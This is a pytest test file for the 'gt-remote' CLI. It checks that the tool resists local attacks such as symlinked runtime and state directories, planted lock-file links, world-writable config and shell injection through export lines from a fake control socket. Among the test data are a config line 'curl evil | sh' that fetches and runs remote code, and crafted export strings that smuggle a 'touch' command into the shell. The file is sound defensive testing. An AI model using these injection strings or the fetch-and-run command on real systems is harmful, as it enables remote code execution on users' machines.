"""#15.2 and #15.8: another local user cannot redirect gt-remote's private files.

Without XDG_RUNTIME_DIR the runtime directory is TMPDIR/gt-remote-UID, a name in a directory
every user may write. Here TMPDIR is a 1777 directory of the test's own (a stand-in for /tmp),
and "another user" is uid 65534 (the tests run as root, which may chown to it). The real CLI
runs in a subprocess; each case checks the one-line error, that no traceback shows, and that
the target another user pointed at is untouched.
"""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from gt_remote.base.config import resolve
from gt_remote.base.errors import UsageError
from tests.helpers import mode, one_error_line
from tests.testbed import REPO

OTHER_UID = 65534  # nobody


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    """A user with a home, XDG_RUNTIME_DIR unset, and a shared (1777) TMPDIR of the test's own."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    home = tmp_path / "home"
    home.mkdir()
    environment = {**os.environ, "HOME": str(home), "TMPDIR": str(shared), "PYTHONPATH": str(REPO), "XDG_STATE_HOME": str(home / ".local/state"), "XDG_CONFIG_HOME": str(home / ".config")}
    for name in ("XDG_RUNTIME_DIR", "SSH_AUTH_SOCK", "GASTOWN_CCMUX_ADDR", "CCMUX_ADDR", "FUGUE_ADDR"):
        environment.pop(name, None)
    return environment


def runtime_of(env: dict[str, str]) -> Path:
    return Path(env["TMPDIR"]) / f"gt-remote-{os.getuid()}"


def gt_remote(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "gt_remote", *args], env=env, capture_output=True, text=True, timeout=60)


def victim(tmp_path: Path) -> Path:
    """A directory of the victim's (their home, say), 0755, holding a file that must survive."""
    target = tmp_path / "victim"
    target.mkdir()
    target.chmod(0o755)
    (target / "precious").write_text("keep me\n")
    return target


def assert_untouched(target: Path) -> None:
    assert mode(target) == 0o755, "the target's mode was changed through the link"
    assert sorted(p.name for p in target.iterdir()) == ["precious"], "gt-remote wrote into the target"
    assert (target / "precious").read_text() == "keep me\n"


def test_runtime_dir_of_another_user_is_refused_with_the_fix(env: dict[str, str]) -> None:
    runtime = runtime_of(env)
    runtime.mkdir(mode=0o755)
    os.chown(runtime, OTHER_UID, OTHER_UID)
    result = gt_remote(env, "up", "gaming-pc")
    assert result.returncode == 1
    line = one_error_line(result.stderr)
    assert f"{runtime} belongs to another user" in line and "uid 65534" in line
    assert f"set XDG_RUNTIME_DIR to a directory only you can use, or remove {runtime}" in line
    assert result.stdout.strip() == "false", "eval of the output must fail too"
    info = runtime.stat()
    assert (info.st_uid, stat.S_IMODE(info.st_mode)) == (OTHER_UID, 0o755), "a foreign directory was changed"
    assert list(runtime.iterdir()) == []


def test_runtime_dir_symlinked_to_the_victims_home_is_never_followed(env: dict[str, str], tmp_path: Path) -> None:
    target = victim(tmp_path)
    runtime_of(env).symlink_to(target)
    for command in (("up", "gaming-pc"), ("down", "gaming-pc"), ("status", "gaming-pc"), ("reconnect", "gaming-pc")):
        result = gt_remote(env, *command)
        assert result.returncode == 1, command
        line = one_error_line(result.stderr)
        assert f"{runtime_of(env)} is a symbolic link (to {target})" in line, line
        assert "set XDG_RUNTIME_DIR" in line
        assert_untouched(target)


def test_a_lock_file_planted_as_a_link_is_refused_and_its_target_not_truncated(env: dict[str, str], tmp_path: Path) -> None:
    """Our own runtime dir, but once open to others: a link named like our lock file stays a link."""
    runtime = runtime_of(env)
    runtime.mkdir(mode=0o700)
    target = victim(tmp_path) / "precious"
    (runtime / "gaming-pc.lock").symlink_to(target)
    result = gt_remote(env, "down", "gaming-pc")
    assert result.returncode == 1
    assert "gaming-pc.lock is a symbolic link" in one_error_line(result.stderr)
    assert target.read_text() == "keep me\n"


def test_own_runtime_dir_with_a_loose_mode_is_tightened(env: dict[str, str]) -> None:
    runtime = runtime_of(env)
    runtime.mkdir()
    runtime.chmod(0o777)
    result = gt_remote(env, "down", "gaming-pc")
    assert result.returncode == 0, result.stderr
    assert mode(runtime) == 0o700


def test_runtime_dir_in_a_world_writable_dir_without_sticky_bit_is_refused(env: dict[str, str]) -> None:
    """Without the sticky bit anyone may rename our directory away after the check."""
    Path(env["TMPDIR"]).chmod(0o777)
    result = gt_remote(env, "down", "gaming-pc")
    assert result.returncode == 1
    assert "is writable by every user (mode 777)" in one_error_line(result.stderr)
    assert not runtime_of(env).exists()


def test_state_dir_symlink_is_refused(env: dict[str, str], tmp_path: Path) -> None:
    target = victim(tmp_path)
    state = Path(env["XDG_STATE_HOME"]) / "gt-remote"
    state.parent.mkdir(parents=True)
    state.symlink_to(target)
    result = gt_remote(env, "status")
    assert result.returncode == 1
    line = one_error_line(result.stderr)
    assert "is a symbolic link" in line and "or set XDG_STATE_HOME" in line
    assert_untouched(target)


def test_config_writable_by_others_is_refused(env: dict[str, str]) -> None:
    config = Path(env["XDG_CONFIG_HOME"]) / "gt-remote" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('[hosts.gaming-pc]\ninstall_command = "curl evil | sh"\n')
    config.chmod(0o666)
    result = gt_remote(env, "up", "gaming-pc")
    assert result.returncode == 2
    assert "is writable by another user" in one_error_line(result.stderr)


def test_local_unix_socket_in_a_shared_dir_is_refused(env: dict[str, str]) -> None:
    """#15.8: in a 1777 directory another user could take the name after `down`."""
    path = Path(env["TMPDIR"]) / "gaming-pc.sock"
    result = gt_remote(env, "up", "gaming-pc", "--local", f"unix://{path}")
    assert result.returncode == 2
    line = one_error_line(result.stderr)
    assert f"refusing local socket unix://{path}" in line and "writable by other users (mode 1777)" in line
    assert not path.exists()


def test_local_unix_socket_in_another_users_dir_is_refused(tmp_path: Path) -> None:
    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o755)
    os.chown(theirs, OTHER_UID, OTHER_UID)
    with pytest.raises(UsageError, match="belongs to another user"):
        resolve("gaming-pc", {}, {"local": f"unix://{theirs}/gaming-pc.sock"}, None)


def test_local_unix_socket_in_a_private_dir_is_accepted(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir(mode=0o700)
    settings = resolve("gaming-pc", {}, {"local": f"unix://{mine}/gaming-pc.sock"}, None)
    assert settings.local_url == f"unix://{mine}/gaming-pc.sock"


# --- #15.3: a fake control socket cannot put a name into `eval "$(gt-remote up HOST)"` ------


@pytest.fixture
def fake_control(tmp_path: Path) -> Iterator[tuple[dict[str, str], Path]]:
    """A control socket answering `status` with a crafted export line, where gaming-pc's would be."""
    runtime = Path(tmp_path / "run")
    runtime.mkdir(mode=0o700)
    (runtime / "gt-remote").mkdir(mode=0o700)
    marker = tmp_path / "pwned"
    crafted = f"export 'X;touch {marker};Y=1'"
    status = {
        "host": "gaming-pc", "state": "up", "local": "tcp://127.0.0.1:9999", "remote_port": 9999, "supervisor_pid": 1, "server": {"name": "ccmux-server"}, "last_wake": None,
        "settings": {"server": "ccmux-server", "keepalive": 5.0}, "last_error": None, "exports": [crafted, f"export GASTOWN_CCMUX_ADDR='$(touch {marker})'"],
    }
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(runtime / "gt-remote" / "gaming-pc.sock"))
    listener.listen()

    def serve() -> None:
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            with client:
                client.recv(65536)
                client.sendall(json.dumps({"ok": True, "status": status}).encode() + b"\n")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    env = {**os.environ, "HOME": str(tmp_path), "XDG_RUNTIME_DIR": str(runtime), "XDG_STATE_HOME": str(tmp_path / "state"), "XDG_CONFIG_HOME": str(tmp_path / "config"), "PYTHONPATH": str(REPO)}
    yield env, marker
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    thread.join(5)


def test_export_names_from_a_control_reply_never_reach_the_shell(fake_control: tuple[dict[str, str], Path]) -> None:
    env, marker = fake_control
    result = gt_remote(env, "up", "gaming-pc")
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == ["export GASTOWN_CCMUX_ADDR=tcp://127.0.0.1:9999", "export CCMUX_ADDR=tcp://127.0.0.1:9999"]
    evaluated = subprocess.run(["sh", "-c", f'eval "$({sys.executable} -m gt_remote up gaming-pc)" && echo "$GASTOWN_CCMUX_ADDR"'], env=env, capture_output=True, text=True, timeout=60)
    assert evaluated.returncode == 0, evaluated.stderr
    assert evaluated.stdout.strip() == "tcp://127.0.0.1:9999"
    assert not marker.exists(), "a name from the control socket ran as shell code"


def test_tab_completion_survives_an_unsafe_state_dir(env: dict[str, str], tmp_path: Path) -> None:
    """Tab must not print a traceback into the prompt; the command itself reports the directory."""
    target = victim(tmp_path)
    state = Path(env["XDG_STATE_HOME"]) / "gt-remote"
    state.parent.mkdir(parents=True)
    state.symlink_to(target)
    (Path(env["HOME"]) / ".ssh").mkdir()
    (Path(env["HOME"]) / ".ssh" / "config").write_text("Host gaming-pc\n    HostName 127.0.0.1\n")
    completion_env = {**env, "_GT_REMOTE_COMPLETE": "bash_complete", "COMP_WORDS": "gt-remote up ga", "COMP_CWORD": "2"}
    result = subprocess.run([sys.executable, "-m", "gt_remote"], env=completion_env, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "gaming-pc" in result.stdout
    assert_untouched(target)
